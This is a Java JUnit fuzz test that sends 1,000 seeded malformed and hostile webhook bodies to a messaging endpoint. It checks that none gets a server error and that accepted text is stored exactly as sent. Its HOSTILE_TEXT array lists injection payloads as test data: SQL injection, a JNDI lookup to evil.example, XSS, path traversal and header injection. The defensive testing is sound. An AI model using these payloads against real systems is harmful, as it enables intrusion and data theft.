package app.clivy.aiworker.intake;

import java.io.ByteArrayOutputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import app.clivy.aiworker.support.BundleTest;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.Test;
import org.springframework.test.context.TestPropertySource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * 1,000 generated webhook bodies (fixed seed, so a failure reproduces): broken JSON, wrong types
 * at every field, deep nesting, sizes around the limit, invalid UTF-8, NUL characters, SQL and
 * script text, unusual Unicode. No answer is a 5xx, a refused body stores nothing, and an accepted
 * text is stored exactly as sent.
 */
@TestPropertySource(properties = "ai-worker.worker.enabled=false")
class HostileInputTest extends BundleTest {

    static final long SEED = 20261129L;
    static final int BODIES = 1000;
    static final int LIMIT = 65536;
    static final ObjectMapper JSON = new ObjectMapper();
    static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    static final String[] HOSTILE_TEXT = {
            "'; DROP TABLE ai_jobs; --", "Robert'); DELETE FROM messages WHERE ('1'='1", "\" OR \"\"=\"", "' OR 1=1 --",
            "$$; SELECT pg_sleep(30); $$", "E'\\\\x00'", ":#instance :#text", "${body} ${header.X} ${exception}",
            "{{ai-worker.openrouter.api-key}}", "${jndi:ldap://evil.example/a}", "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "%s%s%n%x", "\\\\u0000 not a NUL",
            "'; NOTIFY ai_jobs_channel, '1'; --", "UNION SELECT password FROM pg_shadow", "../../../../etc/passwd",
            "\r\nX-Injected: 1\r\n", "Halo, jam buka toko?"};
    static final String[] UNICODE = {"😀", "👩‍👩‍👧‍👦", "ünïcødé", "日本語", "مرحبا", "\u202Eevil\u202C", "\u200B\u200D\uFEFF",
            "e\u0301\u0301\u0301", "\uD834\uDD1E", "𝕳𝖊𝖑𝖑𝖔", "\u0007\u001B[31mred", "ﷺ", "\u2028\u2029", "\t\n"}; // blank ones last
    static final String[] FIELDS = {"event", "instanceName", "data", "data.Info", "data.Message", "data.Info.ID",
            "data.Info.Sender", "data.Info.Chat", "data.Info.PushName", "data.Info.IsFromMe", "data.Info.IsGroup",
            "data.Message.conversation", "data.Message.extendedTextMessage", "data.Message.extendedTextMessage.text",
            "data.Message.imageMessage", "data.Message.imageMessage.caption"};

    record Case(String kind, byte[] body, String storedText) {
    }

    @Test
    void noHostileBodyGetsA5xxStoresWhenRefusedOrIsAltered() {
        Random random = new Random(SEED);
        long messagesBefore = count("SELECT COUNT(*) FROM messages");
        long jobsBefore = count("SELECT COUNT(*) FROM ai_jobs");
        Map<Integer, Integer> statuses = new LinkedHashMap<>();
        List<String> problems = new ArrayList<>();
        int accepted = 0;
        int agentMessages = 0;

        for (int i = 0; i < BODIES; i++) {
            Case c = generate(i, random);
            HttpResponse<String> res = client().postBytes("/webhook/ai", c.body());
            statuses.merge(res.statusCode(), 1, Integer::sum);
            String label = "#" + i + " " + c.kind() + ": ";
            if (res.statusCode() >= 500) {
                problems.add(label + res.statusCode() + " " + res.body());
                continue;
            }
            if (!isJsonObject(res.body()) || res.body().length() > 4096 || res.body().contains("Exception")
                    || res.body().contains("\tat ")) {
                problems.add(label + "answer is not a short JSON object without a trace: " + abbreviate(res.body()));
            }
            if (List.of("invalid-utf8", "nul").contains(c.kind()) && res.statusCode() != 400) {
                problems.add(label + "expected 400, got " + res.statusCode() + " " + abbreviate(res.body()));
            }
            if (res.statusCode() == 200 && res.body().startsWith("{\"status\":\"agent_message\"")) {
                agentMessages++; // a from-me message: a human agent's, stored as history, no job
            }
            if (res.statusCode() == 202) {
                accepted++;
                long jobId = Long.parseLong(res.body().replaceAll("\\D", ""));
                if (c.storedText() != null) {
                    String stored = db.queryForObject(
                            "SELECT m.body FROM ai_jobs j JOIN messages m ON m.id = j.message_id WHERE j.id = ?", String.class, jobId);
                    if (!c.storedText().equals(stored)) {
                        problems.add(label + "stored text differs: sent " + abbreviate(c.storedText()) + " stored " + abbreviate(stored));
                    }
                }
            } else if (c.storedText() != null && c.kind().equals("text") && res.statusCode() != 413) {
                problems.add(label + "a well-formed text message was refused: " + res.statusCode() + " " + abbreviate(res.body()));
            }
        }

        assertThat(problems).as("statuses " + statuses).isEmpty();
        // every row comes from a 202 or a human agent's message: a refused or ignored body stored nothing
        assertThat(count("SELECT COUNT(*) FROM messages") - messagesBefore).as("statuses " + statuses).isEqualTo(accepted + agentMessages);
        assertThat(count("SELECT COUNT(*) FROM ai_jobs") - jobsBefore).isEqualTo(accepted);
        // the generator reaches every class of answer
        assertThat(statuses).containsKeys(202, 400, 413);
        assertThat(accepted).isGreaterThan(100);
    }

    @Test
    void aLoneSurrogateEscapeIsRefusedRatherThanStoredAltered() {
        // a \\ud800 escape is valid JSON but not Unicode text: stored, it would silently become "?"
        for (String escape : new String[] {"\\ud800", "\\udfff", "x\\ud83dy", "\\ude00\\ud83d"}) {
            String body = json(event("lone-" + escape.hashCode(), "@@T@@", new Random(1))).replace("@@T@@", escape);
            HttpResponse<String> res = client().post("/webhook/ai", body);
            assertThat(res.statusCode()).as(body).isEqualTo(400);
            assertThat(res.body()).contains("must be valid Unicode text");
        }
    }

    private long count(String sql) {
        return db.queryForObject(sql, Long.class);
    }

    // --- the generator ---

    private static Case generate(int i, Random r) {
        String text = hostileText(r);
        ObjectNode event = event("hostile-" + i, text, r);
        switch (i % 8) {
            case 0:
                return new Case("broken-json", breakJson(bytes(event), r), null);
            case 1: {
                String field = FIELDS[r.nextInt(FIELDS.length)];
                replace(event, field, wrongType(r));
                return new Case("wrong-type " + field, bytes(event), null);
            }
            case 2: {
                String field = r.nextBoolean() ? FIELDS[r.nextInt(FIELDS.length)] : "data.extra";
                String nested = nested(1 + r.nextInt(r.nextBoolean() ? 40 : 5000), r);
                String marker = "\"@@NESTED@@\"";
                replace(event, field, NODES.textNode("@@NESTED@@"));
                String body = json(event).replace(marker, nested);
                return new Case("deep-nesting " + field, body.getBytes(StandardCharsets.UTF_8), null);
            }
            case 3: {
                // a body within a few hundred bytes of the limit, with multi-byte characters
                String unit = r.nextBoolean() ? "x" : UNICODE[r.nextInt(UNICODE.length - 2)]; // not the blank ones
                ObjectNode sized = event("hostile-" + i, "@@TEXT@@", r);
                int room = LIMIT - (bytes(sized).length - "@@TEXT@@".length()) + r.nextInt(600) - 300;
                int unitBytes = quoted(unit).getBytes(StandardCharsets.UTF_8).length - 2;
                String huge = unit.repeat(Math.max(1, room / unitBytes));
                String body = json(sized).replace("\"@@TEXT@@\"", quoted(huge));
                return new Case("text", body.getBytes(StandardCharsets.UTF_8), huge);
            }
            case 4: {
                byte[][] invalid = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xFE}, {(byte) 0xC0, (byte) 0xAF},
                        {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                        {(byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}};
                byte[] bad = invalid[r.nextInt(invalid.length)];
                String field = r.nextBoolean() ? "data.Message.extendedTextMessage.text" : FIELDS[1 + r.nextInt(2) * 5];
                replace(event, field, NODES.textNode("ab@@BAD@@cd"));
                return new Case("invalid-utf8", splice(bytes(event), "@@BAD@@", bad), null);
            }
            case 5: {
                // a NUL in a string that is read (escaped or raw) is refused: PostgreSQL text cannot hold it
                if (r.nextBoolean()) {
                    event = event("hostile-" + i, text + "\u0000" + text, r);
                } else {
                    String field = new String[] {"data.Info.ID", "instanceName", "data.Info.PushName", "data.Info.Sender"}[r.nextInt(4)];
                    replace(event, field, NODES.textNode("a\u0000b"));
                }
                byte[] body = bytes(event);
                if (r.nextBoolean()) {
                    body = splice(body, "\\u0000", new byte[] {0});
                }
                return new Case("nul", body, null);
            }
            default:
                // well-formed messages carrying SQL, script and template text, placeholders and Unicode
                return new Case("text", bytes(event), text);
        }
    }

    private static String hostileText(Random r) {
        StringBuilder s = new StringBuilder();
        int parts = 1 + r.nextInt(4);
        for (int p = 0; p < parts; p++) {
            s.append(r.nextBoolean() ? HOSTILE_TEXT[r.nextInt(HOSTILE_TEXT.length)] : UNICODE[r.nextInt(UNICODE.length)]);
            if (r.nextInt(4) == 0) {
                s.appendCodePoint(randomCodePoint(r));
            }
            s.append(' ');
        }
        return s.toString().strip().isEmpty() ? "x" : s.toString();
    }

    /** Any Unicode scalar value except NUL and the surrogates (which cannot stand alone in UTF-8). */
    private static int randomCodePoint(Random r) {
        while (true) {
            int cp = r.nextBoolean() ? 1 + r.nextInt(0xFFFF) : 0x10000 + r.nextInt(0x10FFFF - 0x10000);
            if (cp < 0xD800 || cp > 0xDFFF) {
                return cp;
            }
        }
    }

    private static ObjectNode event(String id, String text, Random r) {
        ObjectNode e = NODES.objectNode();
        e.put("event", "Message");
        e.put("instanceName", "hostile-input");
        ObjectNode info = e.putObject("data").putObject("Info");
        info.put("ID", id);
        info.put("Sender", "628" + r.nextInt(1_000_000) + "@s.whatsapp.net");
        info.put("Chat", info.get("Sender").asText());
        info.put("PushName", "Budi");
        info.put("IsFromMe", false);
        info.put("IsGroup", false);
        ObjectNode message = ((ObjectNode) e.get("data")).putObject("Message");
        switch (r.nextInt(3)) {
            case 0 -> message.put("conversation", text);
            case 1 -> message.putObject("extendedTextMessage").put("text", text);
            default -> message.putObject("imageMessage").put("caption", text).put("mimetype", "image/jpeg");
        }
        return e;
    }

    private static JsonNode wrongType(Random r) {
        return switch (r.nextInt(9)) {
            case 0 -> NODES.numberNode(r.nextLong());
            case 1 -> NODES.numberNode(r.nextDouble() * 1e308);
            case 2 -> NODES.booleanNode(r.nextBoolean());
            case 3 -> NODES.nullNode();
            case 4 -> NODES.arrayNode().add("a").add(1);
            case 5 -> NODES.objectNode().put("text", "nested");
            case 6 -> NODES.textNode("");
            case 7 -> NODES.textNode("   ");
            default -> NODES.textNode("string where an object or flag belongs");
        };
    }

    /** Sets (or adds) the field at a dotted path, creating the objects on the way. */
    private static void replace(ObjectNode root, String path, JsonNode value) {
        String[] parts = path.split("\\.");
        ObjectNode node = root;
        for (int p = 0; p < parts.length - 1; p++) {
            JsonNode next = node.get(parts[p]);
            if (next == null || !next.isObject()) {
                next = node.putObject(parts[p]);
            }
            node = (ObjectNode) next;
        }
        node.set(parts[parts.length - 1], value);
    }

    private static String nested(int depth, Random r) {
        boolean arrays = r.nextBoolean();
        String open = arrays ? "[" : "{\"a\":";
        String close = arrays ? "]" : "}";
        return open.repeat(depth) + (arrays ? "1" : "1") + close.repeat(depth);
    }

    private static byte[] breakJson(byte[] valid, Random r) {
        String s = new String(valid, StandardCharsets.UTF_8);
        return (switch (r.nextInt(10)) {
            case 0 -> s.substring(0, r.nextInt(s.length()));
            case 1 -> s + "}";
            case 2 -> s + " trailing";
            case 3 -> s.replace("\"", "'");
            case 4 -> s.replaceFirst(":", "");
            case 5 -> "\uFEFF" + s;
            case 6 -> new String[] {"null", "true", "123", "\"Message\"", "[]", "{}", " ", "{\"event\":}", "{,}", "NaN"}[r.nextInt(10)];
            case 7 -> {
                int at = r.nextInt(s.length());
                yield s.substring(0, at) + "{}[],:\"\\".charAt(r.nextInt(8)) + s.substring(at);
            }
            case 8 -> s.replace("\"event\"", "\"event\":\"Message\",\"event\"");
            default -> {
                byte[] noise = new byte[1 + r.nextInt(2000)];
                r.nextBytes(noise);
                yield new String(noise, StandardCharsets.ISO_8859_1);
            }
        }).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] splice(byte[] body, String marker, byte[] replacement) {
        String s = new String(body, StandardCharsets.ISO_8859_1);
        int at = s.indexOf(marker);
        assertThat(at).as("marker in body").isNotNegative();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(body, 0, at);
        out.writeBytes(replacement);
        int after = at + marker.getBytes(StandardCharsets.ISO_8859_1).length;
        out.write(body, after, body.length - after);
        return out.toByteArray();
    }

    private static String quoted(String text) {
        return NODES.textNode(text).toString();
    }

    private static String json(JsonNode node) {
        return node.toString();
    }

    private static byte[] bytes(JsonNode node) {
        return json(node).getBytes(StandardCharsets.UTF_8);
    }

    private static boolean isJsonObject(String body) {
        try {
            return JSON.readTree(body).isObject();
        } catch (Exception e) {
            return false;
        }
    }

    private static String abbreviate(String s) {
        return s == null ? "null" : s.length() > 200 ? s.substring(0, 200) + "...(" + s.length() + " chars)" : s;
    }
}
